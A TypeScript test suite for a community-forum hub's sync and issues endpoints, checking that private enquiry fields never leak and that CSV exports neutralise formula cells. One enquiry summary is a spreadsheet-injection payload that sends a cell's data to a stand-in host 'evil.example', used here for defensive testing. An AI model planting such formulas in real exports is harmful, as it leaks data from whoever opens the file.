import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../../db/driver';
import { migrate } from '../../db/migrate';
import { unitsConfigSchema, type UnitsConfig } from '../../shared/domain/units';
import sampleUnits from '../../assets/config/units.json' with { type: 'json' };
import {
  enquiryCopySchema,
  pullResponseSchema,
  pushResponseSchema,
  type PullChange,
  type PushChange,
  type PushResult,
} from '../../shared/sync/protocol';
import { ISSUES_CSV_HEADER } from '../../server/forumIssues';
import { hubDatabaseFile, startHub, type RunningHub } from '../../server/hub';
import { HUB_MIGRATIONS } from '../../server/migrations';
import { openSqliteHubStore } from '../../server/sqliteStore';
import type { NewDevice } from '../../server/store';
import { hubUnits } from '../../server/units';
import { HUB_STORES, openTestHubStorage, storeTitle, type TestHubStorage } from '../support/hubStores';
import { makeTempDir } from '../support/tempDir';

// The forums' side of the hub: copies of a unit's enquiries for its other kiosks, meetings and
// agenda items pushed by chairs' kiosks, and the forum issues endpoints. Once per store
// (tests/support/hubStores.ts): one real hub on 127.0.0.1 over a real SQLite file, then one over a
// real PostgreSQL database. The tests are independent because each makes its own records and reads
// pull changes from its devices' current cursors.

/** The sample units, and Brereton: a second unit of the Rugeley forum, so fan-out to every unit of a forum shows. */
const UNITS: UnitsConfig = unitsConfigSchema.parse([
  ...sampleUnits,
  {
    id: 'brereton',
    code: 'BRE',
    name: 'Brereton',
    shopName: 'Brereton library',
    forum: { id: 'rugeley', name: 'Rugeley Community Forum' },
    areas: ['Brereton'],
  },
]);

/** The hub's clock: the issues endpoints' default period ends today in London. */
const NOW = new Date('2026-07-15T10:00:00Z');

let storage: TestHubStorage;
let hub: RunningHub;
let rugeley1: NewDevice;
let rugeley2: NewDevice;
/** The chair's kiosk, in Rugeley. */
let chair: NewDevice;
let brereton1: NewDevice;
let cannock1: NewDevice;
let hednesford1: NewDevice;

// ---------------------------------------------------------------------------------------------
// Helpers.

const UNIT_CODES: Record<string, string> = { rugeley: 'RUG', brereton: 'BRE', cannock: 'CAN', hednesford: 'HED' };
const FORUM_OF: Record<string, string> = { rugeley: 'rugeley', brereton: 'rugeley', cannock: 'cannock', hednesford: 'hednesford' };
let sequence = 0;

/** What must never leave the hub in a copy or an issues answer. */
const SECRETS = ['Lives alone, recently bereaved', 'Jane Secretperson', '07700 900123', 'jane@example.org', 'futureSecretField'];

interface TestEnquiry {
  readonly id: string;
  readonly data: Record<string, unknown> & { reference: string; createdAt: string };
}

function newEnquiry(unitId = 'rugeley', over: Record<string, unknown> = {}): TestEnquiry {
  sequence++;
  const createdAt = new Date(Date.UTC(2026, 5, 1, 9, 0, sequence)).toISOString();
  return {
    id: randomUUID(),
    data: {
      reference: `${UNIT_CODES[unitId]}-K1-${String(sequence).padStart(6, '0')}`,
      unitId,
      forumId: FORUM_OF[unitId],
      deviceCode: 'K1',
      topic: 'roads',
      body: 'county',
      summary: `Pothole number ${sequence} on Church Street`,
      details: SECRETS[0],
      location: 'Church Street, Rugeley',
      channel: 'kiosk',
      status: 'for-forum',
      outcome: null,
      mergedInto: null,
      language: 'en-GB',
      contact: { name: SECRETS[1], phone: SECRETS[2], email: SECRETS[3], consentAt: createdAt },
      futureSecretField: 'kept on the hub, never passed on',
      createdAt,
      updatedAt: createdAt,
      ...over,
    },
  };
}

const enquiryChange = (enquiry: TestEnquiry, version: number, over: Record<string, unknown> = {}): PushChange => ({
  id: enquiry.id,
  entity: 'enquiry',
  version,
  data: { ...enquiry.data, ...over },
});

function meetingData(over: Record<string, unknown> = {}) {
  return { forumId: 'rugeley', date: '2026-09-10', startsAt: '18:30', place: 'Rugeley Town Hall', cancelled: false, updatedAt: '2026-07-01T09:00:00Z', ...over };
}

function itemData(meetingId: string, enquiryIds: readonly string[], over: Record<string, unknown> = {}) {
  return {
    meetingId,
    forumId: 'rugeley',
    position: 1,
    title: 'Potholes on Church Street',
    summary: 'Several residents report potholes on Church Street.',
    restricted: false,
    referral: 'none',
    referralBody: '',
    enquiryIds,
    decision: null,
    outcome: null,
    minute: null,
    removed: false,
    updatedAt: '2026-07-02T18:00:00+01:00',
    ...over,
  };
}

const api = (path: string) => `${hub.url}/api/v1${path}`;
const bearer = (device: NewDevice) => ({ authorization: `Bearer ${device.token}` });

async function pushTo(url: string, device: NewDevice, changes: readonly PushChange[]): Promise<PushResult[]> {
  const response = await fetch(`${url}/api/v1/sync/push`, {
    method: 'POST',
    headers: { ...bearer(device), 'content-type': 'application/json' },
    body: JSON.stringify({ changes }),
  });
  expect(response.status).toBe(200);
  return pushResponseSchema.parse(await response.json()).results;
}
const push = (device: NewDevice, changes: readonly PushChange[]) => pushTo(hub.url, device, changes);
const statuses = async (device: NewDevice, changes: readonly PushChange[]) => (await push(device, changes)).map((r) => r.status);

/** Every change the device gets after `cursor`, all pages, and the cursor after them. */
async function pullAll(device: NewDevice, cursor = ''): Promise<{ changes: PullChange[]; cursor: string }> {
  const changes: PullChange[] = [];
  for (;;) {
    const response = await fetch(api(`/sync/pull?cursor=${cursor}&limit=100`), { headers: bearer(device) });
    expect(response.status).toBe(200);
    const page = pullResponseSchema.parse(await response.json());
    changes.push(...page.changes);
    cursor = page.cursor;
    if (!page.more) return { changes, cursor };
  }
}

async function cursorsOf<K extends string>(devices: Record<K, NewDevice>): Promise<Record<K, string>> {
  const entries = await Promise.all(Object.entries<NewDevice>(devices).map(async ([name, device]) => [name, (await pullAll(device)).cursor] as const));
  return Object.fromEntries(entries) as Record<K, string>;
}

/** The changes of one entity the device gets after `cursor`, as [id, version, data]. */
async function pulled(device: NewDevice, cursor: string, entity: PullChange['entity']) {
  return (await pullAll(device, cursor)).changes.filter((c) => c.entity === entity).map((c) => [c.id, c.version, c.data] as const);
}

async function hubEnquiry(id: string) {
  return (await storage.row('SELECT status, outcome, status_owner AS owner FROM enquiries WHERE id = ?', [id])) as
    | { status: string; outcome: string | null; owner: string }
    | undefined;
}

/** A meeting's or agenda item's row; booleans (cancelled, restricted, removed) read as 1 and 0 on both stores. */
async function hubRow(table: 'meetings' | 'agenda_items', id: string): Promise<Record<string, unknown> | undefined> {
  return storage.row(`SELECT * FROM ${table} WHERE id = ?`, [id]);
}

// ---------------------------------------------------------------------------------------------

for (const variant of HUB_STORES) {
  describe.skipIf(!variant.available)(`hub forums ${storeTitle(variant)}`, () => {
    beforeAll(async () => {
      storage = await openTestHubStorage(variant.name, 'hub-forums');
      hub = await startHub({ ...storage.storage, port: 0, units: UNITS, now: () => NOW });
      const add = (unitId: string, name: string) => hub.store.addDevice({ unitId, name, now: NOW });
      rugeley1 = await add('rugeley', 'Rugeley kiosk K1');
      rugeley2 = await add('rugeley', 'Rugeley desk D1');
      chair = await add('rugeley', 'Rugeley kiosk K3');
      brereton1 = await add('brereton', 'Brereton kiosk K1');
      cannock1 = await add('cannock', 'Cannock kiosk K1');
      hednesford1 = await add('hednesford', 'Hednesford kiosk K1');
    });
    afterAll(async () => {
      await hub?.close();
      await storage?.dispose();
    });

    describe('hub: copies of enquiries for the unit’s other kiosks', () => {
      it('sends the publishable fields to the unit’s other kiosks only, never the details, the contact or unknown fields', async () => {
        const cursors = await cursorsOf({ rugeley1, rugeley2, chair, brereton1, cannock1 });
        const enquiry = newEnquiry('rugeley', { createdAt: '2026-06-01T10:00:00+01:00', updatedAt: '2026-06-01T10:05:00+01:00' });
        expect(await statuses(rugeley1, [enquiryChange(enquiry, 1)])).toEqual(['applied']);

        const expected = {
          reference: enquiry.data.reference,
          unitId: 'rugeley',
          forumId: 'rugeley',
          topic: 'roads',
          body: 'county',
          summary: enquiry.data.summary,
          location: 'Church Street, Rugeley',
          channel: 'kiosk',
          status: 'for-forum',
          outcome: null,
          mergedInto: null,
          createdAt: '2026-06-01T09:00:00.000Z',
          updatedAt: '2026-06-01T09:05:00.000Z',
        };
        for (const device of [rugeley2, chair]) {
          const page = await pullAll(device, device === chair ? cursors.chair : cursors.rugeley2);
          expect(page.changes.map((c) => [c.entity, c.id, c.version, c.data])).toEqual([['enquiry', enquiry.id, 1, expected]]);
          expect(enquiryCopySchema.safeParse(page.changes[0]!.data).success).toBe(true);
          const bytes = JSON.stringify(page);
          for (const secret of SECRETS) expect(bytes).not.toContain(secret);
        }
        // Not back to the kiosk that raised it, and not to another unit, even one of the same forum.
        expect((await pullAll(rugeley1, cursors.rugeley1)).changes).toEqual([]);
        expect((await pullAll(brereton1, cursors.brereton1)).changes).toEqual([]);
        expect((await pullAll(cannock1, cursors.cannock1)).changes).toEqual([]);
      });

      it('carries the hub’s status once the forum owns it, whatever the kiosk sent', async () => {
        const enquiry = newEnquiry();
        await push(rugeley1, [enquiryChange(enquiry, 1)]);
        await hub.store.recordStatus({ reference: enquiry.data.reference, status: 'outcome-recorded', outcome: 'Referred to the CAT', now: NOW });
        const cursor = (await pullAll(rugeley2)).cursor;
        // The raising kiosk, not having pulled, sends a new summary with its old status.
        await push(rugeley1, [enquiryChange(enquiry, 2, { summary: 'Pothole, now two of them', status: 'for-forum' })]);
        expect(await pulled(rugeley2, cursor, 'enquiry')).toEqual([
          [enquiry.id, 2, expect.objectContaining({ summary: 'Pothole, now two of them', status: 'outcome-recorded', outcome: 'Referred to the CAT' })],
        ]);
      });

      it('copies nothing from a push that was not applied', async () => {
        const enquiry = newEnquiry();
        await push(rugeley1, [enquiryChange(enquiry, 2)]);
        const cursor = (await pullAll(rugeley2)).cursor;
        expect(await statuses(rugeley1, [enquiryChange(enquiry, 2), enquiryChange(enquiry, 1, { summary: 'older' })])).toEqual(['duplicate', 'stale']);
        expect((await pullAll(rugeley2, cursor)).changes).toEqual([]);
      });
    });

    describe('hub: meetings pushed by kiosks', () => {
      it('sends a meeting to every kiosk of every unit of the forum but the one that set it', async () => {
        const cursors = await cursorsOf({ rugeley1, rugeley2, chair, brereton1, cannock1 });
        const id = randomUUID();
        const data = meetingData({ date: '2026-09-10', futureField: 'kept' });
        expect(await statuses(chair, [{ id, entity: 'meeting', version: 1, data }])).toEqual(['applied']);
        for (const [device, cursor] of [[rugeley1, cursors.rugeley1], [rugeley2, cursors.rugeley2], [brereton1, cursors.brereton1]] as const) {
          expect(await pulled(device, cursor, 'meeting')).toEqual([[id, 1, data]]);
        }
        expect((await pullAll(chair, cursors.chair)).changes).toEqual([]);
        expect((await pullAll(cannock1, cursors.cannock1)).changes).toEqual([]);
        expect(await hubRow('meetings', id)).toMatchObject({ forum_id: 'rugeley', date: '2026-09-10', starts_at: '18:30', place: 'Rugeley Town Hall', cancelled: 0, version: 1 });
      });

      it('answers a resend duplicate, an older or already taken version stale, and keeps the newer one', async () => {
        const id = randomUUID();
        const v1 = { id, entity: 'meeting', version: 1, data: meetingData() };
        const v2 = { id, entity: 'meeting', version: 2, data: meetingData({ place: 'Rugeley Rose Theatre' }) };
        expect(await statuses(chair, [v1, v2])).toEqual(['applied', 'applied']);
        const cursor = (await pullAll(rugeley1)).cursor;
        const taken = { ...v2, data: meetingData({ place: 'Somewhere else' }) };
        const older = { ...v1, data: meetingData({ cancelled: true }) };
        // From another kiosk of the forum too: the version is the meeting's, not the device's.
        expect(await statuses(rugeley2, [v2, v1, taken, older])).toEqual(['duplicate', 'duplicate', 'stale', 'stale']);
        expect(await hubRow('meetings', id)).toMatchObject({ place: 'Rugeley Rose Theatre', version: 2 });
        expect((await pullAll(rugeley1, cursor)).changes).toEqual([]);
      });

      it('refuses a meeting of another forum, or invalid, with a reason', async () => {
        const rugeleyMeeting = randomUUID();
        await push(chair, [{ id: rugeleyMeeting, entity: 'meeting', version: 1, data: meetingData() }]);
        const results = await push(cannock1, [
          { id: randomUUID(), entity: 'meeting', version: 1, data: meetingData() },
          { id: rugeleyMeeting, entity: 'meeting', version: 2, data: meetingData({ forumId: 'cannock' }) },
          { id: randomUUID(), entity: 'meeting', version: 1, data: meetingData({ forumId: 'cannock', date: '10/09/2026' }) },
          { id: randomUUID(), entity: 'meeting', version: 1, data: meetingData({ forumId: 'cannock' }) },
        ]);
        expect(results.map((r) => r.status)).toEqual(['rejected', 'rejected', 'rejected', 'applied']);
        expect(results[0]!.error).toMatch(/data\.forumId is "rugeley", but this device's unit belongs to forum "cannock"/);
        expect(results[1]!.error).toMatch(/belongs to forum "rugeley", not to this device's forum "cannock"/);
        expect(results[2]!.error).toMatch(/data\.date/);
        expect(await hubRow('meetings', rugeleyMeeting)).toMatchObject({ forum_id: 'rugeley', version: 1 });
      });

      it('keeps one version line for a meeting set with the CLI and changed on a kiosk', async () => {
        const cursors = await cursorsOf({ rugeley1, chair, brereton1 });
        const set = await hub.store.saveMeeting({ forumId: 'rugeley', date: '2026-10-08', startsAt: '19:00', place: 'Brereton Village Hall', cancelled: false, now: NOW });
        expect(set).toMatchObject({ version: 1, forumName: 'Rugeley Community Forum', units: [{ unitId: 'rugeley' }, { unitId: 'brereton' }] });
        // Set on the hub: every kiosk of the forum hears of it, the chair's included.
        for (const [device, cursor] of [[rugeley1, cursors.rugeley1], [chair, cursors.chair], [brereton1, cursors.brereton1]] as const) {
          expect(await pulled(device, cursor, 'meeting')).toEqual([[set.id, 1, { ...set.data }]]);
        }
        const moved = meetingData({ date: '2026-10-15', startsAt: '19:00', place: 'Brereton Village Hall', updatedAt: '2026-07-03T12:00:00Z' });
        expect(await statuses(chair, [{ id: set.id, entity: 'meeting', version: 2, data: moved }])).toEqual(['applied']);
        // A kiosk that also changed version 1 meanwhile loses: version 2 is taken.
        expect(await statuses(rugeley1, [{ id: set.id, entity: 'meeting', version: 2, data: meetingData({ cancelled: true }) }])).toEqual(['stale']);
        expect(await hubRow('meetings', set.id)).toMatchObject({ date: '2026-10-15', version: 2 });
        // The CLI carries on from the kiosk's version.
        const again = await hub.store.saveMeeting({ id: set.id, forumId: 'rugeley', date: '2026-10-15', startsAt: '19:00', place: 'Brereton Village Hall', cancelled: true, now: NOW });
        expect(again).toMatchObject({ id: set.id, version: 3, cancelled: true });
        expect(await hub.store.listMeetings('rugeley')).toContainEqual(expect.objectContaining({ id: set.id, version: 3, date: '2026-10-15', cancelled: true }));
        await expect(hub.store.saveMeeting({ id: set.id, forumId: 'cannock', date: '2026-10-15', startsAt: null, place: null, cancelled: false, now: NOW })).rejects.toThrow(
          /belongs to forum "rugeley"/,
        );
        await expect(hub.store.saveMeeting({ forumId: 'lichfield', date: '2026-10-15', startsAt: null, place: null, cancelled: false, now: NOW })).rejects.toThrow(
          /Unknown forum "lichfield"/,
        );
      });
    });

    describe('hub: agenda items pushed by a chair’s kiosk', () => {
      /** A meeting and four enquiries of the forum (one merged into another, one from Brereton), and one of Cannock. */
      async function setUp() {
        const meetingId = randomUUID();
        await push(chair, [{ id: meetingId, entity: 'meeting', version: 1, data: meetingData() }]);
        const [main, other, brereton, cannock] = [newEnquiry(), newEnquiry(), newEnquiry('brereton'), newEnquiry('cannock')];
        const duplicate = newEnquiry('rugeley', { mergedInto: main.id });
        expect(await statuses(rugeley1, [enquiryChange(main, 1), enquiryChange(other, 1), enquiryChange(duplicate, 1)])).toEqual(['applied', 'applied', 'applied']);
        expect(await statuses(brereton1, [enquiryChange(brereton, 1)])).toEqual(['applied']);
        expect(await statuses(cannock1, [enquiryChange(cannock, 1)])).toEqual(['applied']);
        const cursors = await cursorsOf({ rugeley1, rugeley2, chair, brereton1, cannock1 });
        return { meetingId, main, other, duplicate, brereton, cannock, cursors };
      }

      const item = (id: string, version: number, data: Record<string, unknown>): PushChange => ({ id, entity: 'agenda-item', version, data });
      const statusOf = (enquiry: TestEnquiry) => hubEnquiry(enquiry.id);

      it('puts the gathered enquiries on the agenda; their kiosks hear of it, the chair’s kiosk does not', async () => {
        const { meetingId, main, other, duplicate, brereton, cannock, cursors } = await setUp();
        const itemId = randomUUID();
        const ids = [main.id, other.id, brereton.id, cannock.id, randomUUID()];
        expect(await statuses(chair, [item(itemId, 1, itemData(meetingId, ids))])).toEqual(['applied']);

        for (const enquiry of [main, other, duplicate, brereton]) expect(await statusOf(enquiry)).toEqual({ status: 'on-agenda', outcome: null, owner: 'hub' });
        // Another forum's enquiry is not this item's to move; an unknown one is passed over.
        expect(await statusOf(cannock)).toMatchObject({ status: 'for-forum', owner: 'kiosk' });
        expect(await hubRow('agenda_items', itemId)).toMatchObject({ forum_id: 'rugeley', meeting_id: meetingId, position: 1, version: 1, restricted: 0 });

        const onAgenda = (enquiry: TestEnquiry) => [enquiry.id, 1, expect.objectContaining({ reference: enquiry.data.reference, status: 'on-agenda' }) as unknown];
        // The raising kiosk and every other kiosk of the unit, but not the chair’s, which applied it itself.
        for (const [device, cursor] of [[rugeley1, cursors.rugeley1], [rugeley2, cursors.rugeley2]] as const) {
          expect(await pulled(device, cursor, 'enquiry-status')).toEqual([onAgenda(main), onAgenda(duplicate), onAgenda(other)]);
        }
        expect(await pulled(brereton1, cursors.brereton1, 'enquiry-status')).toEqual([onAgenda(brereton)]);
        expect((await pullAll(chair, cursors.chair)).changes).toEqual([]);
        expect((await pullAll(cannock1, cursors.cannock1)).changes).toEqual([]);

        // A resend changes nothing; another change claiming a version already taken is stale.
        expect(await statuses(chair, [item(itemId, 1, itemData(meetingId, ids)), item(itemId, 1, itemData(meetingId, [main.id]))])).toEqual(['duplicate', 'stale']);
        expect(await statusOf(other)).toMatchObject({ status: 'on-agenda' });
      });

      it('records a decision’s status and outcome on every linked enquiry, and the hub keeps it', async () => {
        const { meetingId, main, duplicate, cursors } = await setUp();
        const itemId = randomUUID();
        // The duplicate gathered too, besides following the enquiry it is merged into: told once each.
        await push(chair, [item(itemId, 1, itemData(meetingId, [main.id, duplicate.id]))]);
        const decided = itemData(meetingId, [main.id, duplicate.id], { decision: 'referred', outcome: 'Referred to the Community Action Team', minute: 'Cllr Smith to chase.' });
        expect(await statuses(chair, [item(itemId, 2, decided)])).toEqual(['applied']);
        const recorded = { status: 'outcome-recorded', outcome: 'Referred to the Community Action Team', owner: 'hub' };
        expect(await statusOf(main)).toEqual(recorded);
        expect(await statusOf(duplicate)).toEqual(recorded);
        expect((await pulled(rugeley1, cursors.rugeley1, 'enquiry-status')).map(([id, , data]) => [id, data.status, data.outcome])).toEqual([
          [main.id, 'on-agenda', null],
          [duplicate.id, 'on-agenda', null],
          [main.id, 'outcome-recorded', 'Referred to the Community Action Team'],
          [duplicate.id, 'outcome-recorded', 'Referred to the Community Action Team'],
        ]);
        // The raising kiosk's newer version keeps its content; the status stays the forum's.
        await push(rugeley1, [enquiryChange(main, 2, { status: 'for-forum', summary: 'Reworded' })]);
        expect(await statusOf(main)).toEqual(recorded);

        // Closed, and carried forward: back to the forum with the outcome said.
        await push(chair, [item(itemId, 3, { ...decided, decision: 'closed', outcome: 'Repaired on 1 August' })]);
        expect(await statusOf(main)).toMatchObject({ status: 'closed', outcome: 'Repaired on 1 August' });
        await push(chair, [item(itemId, 4, { ...decided, decision: 'carried-forward', outcome: 'To the September meeting' })]);
        expect(await statusOf(main)).toMatchObject({ status: 'for-forum', outcome: 'To the September meeting' });
      });

      it('sends an enquiry dropped from an item, or on a removed item, back to the forum', async () => {
        const { meetingId, main, other, duplicate, cursors } = await setUp();
        const itemId = randomUUID();
        await push(chair, [item(itemId, 1, itemData(meetingId, [main.id, other.id]))]);
        expect(await statuses(chair, [item(itemId, 2, itemData(meetingId, [main.id]))])).toEqual(['applied']);
        expect(await statusOf(other)).toMatchObject({ status: 'for-forum', owner: 'hub' });
        expect(await statusOf(main)).toMatchObject({ status: 'on-agenda' });
        expect(await statuses(chair, [item(itemId, 3, itemData(meetingId, [main.id], { removed: true }))])).toEqual(['applied']);
        expect(await statusOf(main)).toMatchObject({ status: 'for-forum' });
        expect(await statusOf(duplicate)).toMatchObject({ status: 'for-forum' });
        expect((await pulled(rugeley2, cursors.rugeley2, 'enquiry-status')).map(([id, , data]) => [id, data.status])).toEqual([
          [main.id, 'on-agenda'],
          [duplicate.id, 'on-agenda'],
          [other.id, 'on-agenda'],
          [other.id, 'for-forum'],
          [main.id, 'for-forum'],
          [duplicate.id, 'for-forum'],
        ]);
        expect(await pulled(chair, cursors.chair, 'enquiry-status')).toEqual([]);
      });

      it('keeps an enquiry on the agenda when it moved to another item before its first item was removed', async () => {
        const { meetingId, main } = await setUp();
        const [first, second] = [randomUUID(), randomUUID()];
        await push(chair, [item(first, 1, itemData(meetingId, [main.id]))]);
        await push(chair, [item(second, 1, itemData(meetingId, [main.id], { position: 2 }))]);
        await push(chair, [item(first, 2, itemData(meetingId, [main.id], { removed: true }))]);
        expect(await statusOf(main)).toMatchObject({ status: 'on-agenda' });
      });

      it('refuses an item of another forum or whose meeting is another forum’s', async () => {
        const { meetingId, main, cannock } = await setUp();
        const itemId = randomUUID();
        await push(chair, [item(itemId, 1, itemData(meetingId, [main.id]))]);
        const results = await push(cannock1, [
          item(randomUUID(), 1, itemData(meetingId, [cannock.id])),
          item(randomUUID(), 1, itemData(meetingId, [cannock.id], { forumId: 'cannock' })),
          item(itemId, 2, itemData(meetingId, [main.id], { forumId: 'cannock' })),
          item(randomUUID(), 1, itemData(randomUUID(), [cannock.id], { forumId: 'cannock', position: 0 })),
        ]);
        expect(results.map((r) => r.status)).toEqual(['rejected', 'rejected', 'rejected', 'rejected']);
        expect(results[0]!.error).toMatch(/data\.forumId is "rugeley"/);
        expect(results[1]!.error).toMatch(new RegExp(`Meeting ${meetingId} belongs to forum "rugeley"`));
        expect(results[2]!.error).toMatch(/belongs to forum "rugeley", not to this device's forum "cannock"/);
        expect(results[3]!.error).toMatch(/data\.position/);
        expect(await statusOf(cannock)).toMatchObject({ status: 'for-forum', owner: 'kiosk' });
        expect(await hubRow('agenda_items', itemId)).toMatchObject({ version: 1 });
      });
    });

    describe('hub: the forum issues endpoints', () => {
      const issues = (query: string, device: NewDevice | null = hednesford1, forum = 'hednesford', csv = false) =>
        fetch(api(`/forums/${forum}/issues${csv ? '.csv' : ''}${query}`), device ? { headers: bearer(device) } : {});

      /** Hednesford's enquiries around midnight at the end of June (BST) and in mid January (GMT). */
      let held: Record<'lateJune' | 'firstJuly' | 'lastJuly1' | 'secondJuly' | 'duplicate' | 'winterIn' | 'winterOut', TestEnquiry>;
      let meetingId: string;
      let itemId: string;

      beforeAll(async () => {
        const hed = (createdAt: string, over: Record<string, unknown> = {}) => newEnquiry('hednesford', { createdAt, updatedAt: createdAt, location: 'Market Street', ...over });
        const firstJuly = hed('2026-06-30T23:30:00Z', { summary: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', topic: 'fly-tipping', body: 'district' });
        held = {
          lateJune: hed('2026-06-30T22:59:59Z'),
          firstJuly,
          duplicate: hed('2026-07-01T10:00:00+01:00', { mergedInto: firstJuly.id, summary: '+44 dial this' }),
          lastJuly1: hed('2026-07-01T22:59:00Z', { summary: '@SUM(1,2)', location: '-1 Station Road' }),
          secondJuly: hed('2026-07-01T23:00:00Z'),
          winterIn: hed('2026-01-15T00:00:00Z'),
          winterOut: hed('2026-01-14T23:59:59Z'),
        };
        const results = await push(
          hednesford1,
          Object.values(held).map((enquiry) => enquiryChange(enquiry, 1)),
        );
        expect(results.every((r) => r.status === 'applied')).toBe(true);
        meetingId = randomUUID();
        itemId = randomUUID();
        const forum = { forumId: 'hednesford' };
        await push(hednesford1, [
          { id: meetingId, entity: 'meeting', version: 1, data: meetingData({ ...forum, date: '2026-07-20' }) },
          { id: itemId, entity: 'agenda-item', version: 1, data: itemData(meetingId, [firstJuly.id], { ...forum, position: 3, restricted: true }) },
        ]);
      });

      const references = (body: { issues: { reference: string }[] }) => body.issues.map((issue) => issue.reference);

      it('lists a period’s issues, London days inclusive, with publishable fields only', async () => {
        const response = await issues('?from=2026-07-01&to=2026-07-01');
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toMatch(/^application\/json/);
        const text = await response.text();
        for (const secret of SECRETS) expect(text).not.toContain(secret);
        const body = JSON.parse(text) as { forum: unknown; from: string; to: string; issues: (Record<string, unknown> & { reference: string })[] };
        expect(body).toMatchObject({ forum: { id: 'hednesford', name: 'Hednesford Community Forum' }, from: '2026-07-01', to: '2026-07-01' });
        // 23:30Z on 30 June is 00:30 on 1 July in London (BST); 23:00Z on 1 July is already 2 July.
        expect(references(body)).toEqual([held.firstJuly.data.reference, held.duplicate.data.reference, held.lastJuly1.data.reference]);
        expect(body.issues[0]).toEqual({
          id: held.firstJuly.id,
          reference: held.firstJuly.data.reference,
          unitId: 'hednesford',
          topic: 'fly-tipping',
          topicGroup: 'bins',
          body: 'district',
          location: 'Market Street',
          summary: held.firstJuly.data.summary,
          status: 'on-agenda',
          outcome: null,
          mergedInto: null,
          createdAt: '2026-06-30T23:30:00.000Z',
          // When the agenda item set its status.
          updatedAt: '2026-07-02T17:00:00.000Z',
          agenda: { meetingId, itemId, position: 3, restricted: true },
        });
        // A duplicate names the enquiry it is merged into by reference; it followed its status.
        expect(body.issues[1]).toMatchObject({ mergedInto: held.firstJuly.data.reference, status: 'on-agenda', agenda: null });
      });

      it('takes GMT days in winter and instants, `to` inclusive', async () => {
        const winter = (await (await issues('?from=2026-01-15&to=2026-01-15')).json()) as { issues: { reference: string }[] };
        expect(references(winter)).toEqual([held.winterIn.data.reference]);
        const instants = await issues(`?from=${encodeURIComponent('2026-07-01T00:00:00+01:00')}&to=2026-06-30T23:30:00Z`);
        expect(instants.status).toBe(200);
        expect(references((await instants.json()) as { issues: { reference: string }[] })).toEqual([held.firstJuly.data.reference]);
      });

      it('defaults to the 90 days up to today in London', async () => {
        const body = (await (await issues('')).json()) as { from: string; to: string; issues: { reference: string }[] };
        expect(body).toMatchObject({ from: '2026-04-16', to: '2026-07-15' });
        expect(references(body)).toEqual(
          [held.lateJune, held.firstJuly, held.duplicate, held.lastJuly1, held.secondJuly].map((enquiry) => enquiry.data.reference),
        );
      });

      it('gives the same issues as CSV, UTF-8 with BOM, an attachment, every cell neutralised', async () => {
        const response = await issues('?from=2026-07-01&to=2026-07-01', hednesford1, 'hednesford', true);
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
        expect(response.headers.get('content-disposition')).toBe('attachment; filename="hednesford-issues-2026-07-01-2026-07-01.csv"');
        const bytes = Buffer.from(await response.arrayBuffer());
        expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
        const text = bytes.toString('utf8');
        for (const secret of SECRETS) expect(text).not.toContain(secret);
        expect(text).toContain('\r\n');
        const rows: string[][] = parse(text.slice(1));
        expect(rows[0]).toEqual([...ISSUES_CSV_HEADER]);
        const records = rows.slice(1).map((row) => Object.fromEntries(ISSUES_CSV_HEADER.map((column, index) => [column, row[index]])));
        expect(records.map((record) => record.reference)).toEqual([held.firstJuly, held.duplicate, held.lastJuly1].map((enquiry) => enquiry.data.reference));
        expect(records[0]).toMatchObject({ topicGroup: 'bins', status: 'on-agenda', meetingDate: '2026-07-20', itemPosition: '3', restricted: 'true' });
        expect(records[1]).toMatchObject({ mergedInto: held.firstJuly.data.reference, meetingDate: '', itemPosition: '', restricted: '' });
        // No cell a spreadsheet would run as a formula; the text is still there to read.
        for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(records[0]!.summary).toContain('HYPERLINK("http://evil.example/?x="&A1,"Click me")');
        expect(records[1]!.summary).toContain('+44 dial this');
        expect(records[2]).toMatchObject({ summary: expect.stringContaining('@SUM(1,2)') as string, location: expect.stringContaining('-1 Station Road') as string });
      });

      it('answers 401 without a token, 403 to another unit’s device, 404 to an unknown forum, 400 to bad dates', async () => {
        for (const csv of [false, true]) {
          const noToken = await issues('', null, 'hednesford', csv);
          expect(noToken.status).toBe(401);
          expect(noToken.headers.get('www-authenticate')).toMatch(/^Bearer/);
          const forbidden = await issues('', rugeley1, 'hednesford', csv);
          expect(forbidden.status).toBe(403);
          expect(await forbidden.json()).toMatchObject({ error: { code: 'forbidden', message: expect.stringContaining('own unit') as string } });
          const unknown = await issues('', hednesford1, 'lichfield', csv);
          expect(unknown.status).toBe(404);
          expect(await unknown.json()).toMatchObject({ error: { code: 'not-found' } });
          for (const query of ['?from=2026-13-01', '?to=yesterday', '?from=2026-07-02&to=2026-07-01', '?from=2026-07-16', '?from=2026-07-01T25:00:00Z']) {
            const response = await issues(query, hednesford1, 'hednesford', csv);
            expect(response.status, query).toBe(400);
            expect(await response.json()).toMatchObject({ error: { code: 'bad-request' } });
          }
        }
        // A Brereton kiosk reads the Rugeley forum: its unit's forum.
        expect((await issues('', brereton1, 'rugeley')).status).toBe(200);
      });

      it('is documented in the OpenAPI document', async () => {
        const document = (await (await fetch(api('/openapi.json'), { headers: bearer(rugeley1) })).json()) as {
          paths: Record<string, { get: { parameters: { name: string; in: string }[]; security: unknown[]; responses: Record<string, { content: Record<string, unknown> }> } }>;
        };
        for (const path of ['/api/v1/forums/{forum}/issues', '/api/v1/forums/{forum}/issues.csv']) {
          const route = document.paths[path]!.get;
          expect(route.parameters.map((p) => `${p.in}:${p.name}`).sort()).toEqual(['path:forum', 'query:from', 'query:to']);
          expect(route.security).toEqual([{ deviceToken: [] }]);
          expect(Object.keys(route.responses)).toEqual(expect.arrayContaining(['200', '400', '401', '403', '404', '429']));
        }
        expect(Object.keys(document.paths['/api/v1/forums/{forum}/issues.csv']!.get.responses['200']!.content)).toEqual(['text/csv']);
        const json = document.paths['/api/v1/forums/{forum}/issues']!.get.responses['200']!.content['application/json'] as { schema: { properties: Record<string, unknown> } };
        expect(Object.keys(json.schema.properties).sort()).toEqual(['forum', 'from', 'issues', 'to']);
      });

      it('counts against the device’s rate limit like the sync routes', async () => {
        const other = await openTestHubStorage(variant.name, 'hub-forums-limit');
        const limited = await startHub({ ...other.storage, rateLimit: { max: 3, timeWindowMs: 60_000 } });
        try {
